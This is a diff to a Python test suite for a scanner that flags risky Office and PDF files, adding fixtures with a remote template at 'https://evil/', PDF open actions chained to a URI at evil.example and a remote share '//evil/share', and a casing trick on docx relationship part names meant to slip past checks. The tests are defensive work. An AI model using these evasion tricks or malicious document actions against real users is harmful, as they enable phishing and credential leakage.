@@ -117,6 +117,13 @@ def test_what_is_no_document_is_refused(content: bytes, said: str) -> None:
     assert refusal(content) == said
 
 
+def shouted(relations: str) -> bytes:
+    """A text whose parts are named in capitals, which Office reads as if they were not."""
+    parts = files.open_xml_parts("docx", relations=relations)
+    named = {"word/_rels/document.xml.rels": "word/_RELS/document.xml.RELS"}
+    return files.zipped({named.get(name, name): content for name, content in parts.items()})
+
+
 def with_parts(ending: str, **parts: bytes | str) -> bytes:
     """A document with more in it; __ in a name stands for /, ö for a point."""
     names = {name.replace("__", "/").replace("ö", "."): part for name, part in parts.items()}
@@ -146,6 +153,10 @@ MACROS, EMBEDDED, LOADS = str(packages.MACROS), str(packages.EMBEDDED), str(pack
         (with_parts("xlsx", xl__externalLinks__externalLink1öxml="<a/>"), LOADS),
         (
             files.office("docx", relations=files.relation("attachedTemplate", "https://evil/")),
+            LOADS,
+        ),
+        (
+            shouted(files.relation("attachedTemplate", "https://evil/")),
             LOADS,
         ),
         (files.office("docx", relations=files.relation("oleObject", "file:///c:/x")), LOADS),
@@ -194,6 +205,13 @@ def script(writer: PdfWriter) -> None:
     writer.pages[0][NameObject("/AA")] = deed
 
 
+def and_then(deed: str, following: DictionaryObject) -> DictionaryObject:
+    """An action that another one follows upon."""
+    made = files.action(deed)
+    made[NameObject("/Next")] = following
+    return made
+
+
 def hide(writer: PdfWriter) -> None:
     """A script that no page and no catalogue leads to."""
     writer._add_object(files.action("/JavaScript", JS="app.alert(1)"))
@@ -215,6 +233,8 @@ ACTS, CARRIES = str(pdfs.ACTS), str(pdfs.CARRIES)
         (files.opening(files.action("/JavaScript", JS="app.alert(1)")), ACTS),
         (files.opening(files.action("/Launch", F="calc.exe")), ACTS),
         (files.opening(files.action("/URI", URI="https://evil.example/")), ACTS),
+        (files.opening(and_then("/GoTo", files.action("/URI", URI="https://evil.example/"))), ACTS),
+        (files.opening(and_then("/GoTo", files.action("/GoToR", F="//evil/share"))), ACTS),
         (files.form_field(files.action("/SubmitForm", F="https://evil.example/")), ACTS),
         (files.form_field(files.action("/GoToE")), ACTS),
         (attach, CARRIES),
